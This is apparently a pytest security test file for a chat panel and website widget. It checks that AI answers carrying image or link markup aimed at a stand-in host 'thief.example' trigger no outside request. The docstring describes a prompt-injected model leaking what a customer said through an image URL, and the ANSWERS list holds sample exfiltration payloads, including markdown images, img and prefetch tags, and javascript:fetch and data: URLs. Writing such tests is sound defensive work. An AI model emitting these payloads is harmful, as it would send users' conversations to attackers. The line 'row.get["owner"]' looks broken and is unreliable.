"""S28: an answer with a picture or link of somebody else's server makes no page call there by itself.

A model that was talked into it writes `![](https://thief.example/?q=what the customer said)`. The panel, the paper and
the widget show it as the text it is; in the widget an address can be pressed, and reads as it is.
"""

import json
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.test import Client
from playwright.sync_api import Route, expect

from apps import tenants
from apps.conversations.models import Conversation, Message
from sandbox.screens import chromium
from tests.security.conftest import Furniture, again
from tests.security.routes import WORKSPACE, address

Browser = Callable[[str], Client]
THIEF = "thief.example"
ANSWERS = [
    f"![](https://{THIEF}/p.png?q=secret)",
    f"![x][1]\n\n[1]: https://{THIEF}/p.png?q=secret",
    f"[Your bank](https://{THIEF}/?q=secret)",
    f'<img src="https://{THIEF}/p.png?q=secret"><link rel="prefetch" href="//{THIEF}/x">',
    f"<https://{THIEF}/?q=secret> //{THIEF}/?q=secret http://{THIEF}/?q=secret",
    f"javascript:fetch('https://{THIEF}') data:text/html,<img src=//{THIEF}>",
]
SCREENS = [pattern for pattern, row in WORKSPACE.items() if row.get["owner"] == 200]
CHROMIUM = chromium.find()


class Addresses(HTMLParser):
    """Whatever an element of the page leads to or loads."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value or "" for name, value in attrs if name in ("src", "href", "srcset", "data", "poster")]


@pytest.mark.parametrize("answer", ANSWERS)
def test_no_page_of_the_panel_leads_or_calls_there(acme: Furniture, browser: Browser, answer: str) -> None:
    with tenants.enter(acme.business.workspace):
        Message.objects.filter(pk=acme.failed.pk).update(text=answer, state="sent")
        Conversation.objects.update(preview=answer)
    client, shown = browser("owner"), 0
    for pattern in SCREENS:
        page = again(client).get(address("config.urls_workspace", pattern, slug="acme", ids=acme.ids))
        if page.headers["content-type"].startswith("text/html"):
            assert [one for one in Addresses(page.content.decode()).found if THIEF in one] == [], pattern
            assert "img-src 'self' data:" in page.headers["Content-Security-Policy"]
            shown += THIEF in page.content.decode()
    assert shown >= 3  # the thread, the list, the paper


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason=chromium.MISSING)
def test_the_widget_on_a_website_without_any_policy_calls_nobody() -> None:
    """In a real browser; every request it makes is seen, and answered here."""
    asked: list[str] = []
    assert CHROMIUM is not None
    with chromium.launched(CHROMIUM) as browser:
        page = browser.new_page()
        page.route("**/*", lambda route: reply(route, asked))
        page.goto("https://shop.example/")
        page.get_by_role("button", name="Open chat").click(timeout=chromium.PATIENCE)
        items = page.get_by_role("dialog").get_by_role("listitem")
        expect(items).to_have_count(1 + len(ANSWERS))  # the greeting stands first
        texts = items.all_inner_texts()
        pictures = page.get_by_role("dialog").locator("li img, li iframe, li link").count()
        links = (
            page.get_by_role("dialog")
            .locator("li a")
            .evaluate_all("found => found.map(a => [a.getAttribute('href'), a.textContent, a.rel])")
        )
    assert [one for one in asked if THIEF in one] == []
    assert pictures == 0
    assert sum(THIEF in one for one in texts) == len(ANSWERS)
    for href, text, rel in links:
        assert href == text  # nothing says it leads elsewhere than it does
        assert href.startswith(("https://", "http://"))
        assert rel == "noopener noreferrer nofollow"


def reply(route: Route, asked: list[str]) -> None:
    """The website, the script, and what the installation would answer."""
    url = route.request.url
    asked.append(url)
    path = url.removeprefix("https://chat.example")
    static = Path(settings.BASE_DIR) / "static" / "widget"
    said = [
        {"id": f"message-{place}", "from": "bot", "text": text, "state": "read"} for place, text in enumerate(ANSWERS)
    ]
    answers: dict[str, dict[str, Any]] = {
        "https://shop.example/": {
            "content_type": "text/html",
            "body": '<!doctype html><title>Shop</title><body><script async data-key="k"'
            ' src="https://chat.example/static/widget/chat.js"></script>',
        },
        "/static/widget/chat.js": {"path": static / "chat.js"},
        "/static/widget/chat.css": {"path": static / "chat.css"},
        "/chat/k/hello/": {"body": json.dumps(HELLO)},
        "/chat/k/messages/": {"body": json.dumps({"messages": said, "online": True})},
    }
    found = answers.get(path.partition("?")[0])
    if found is None:
        route.abort()
    else:
        headers = {"access-control-allow-origin": "*", "access-control-allow-headers": "authorization"}
        route.fulfill(headers=headers, **found)


HELLO = {
    **{"token": "t", "visitor": "v", "title": "Finn", "logo": "", "colour": "#0a6", "ink": "#fff", "greeting": "Hi!"},
    **{"online": True, "offline": "", "language": "en", "dir": "ltr"},
    "words": dict.fromkeys(("send", "write", "close", "you", "person", "typing", "again", "lost", "offline"), "…")
    | {"open": "Open chat", "greeting": "Hi!", "news": "new"},
}
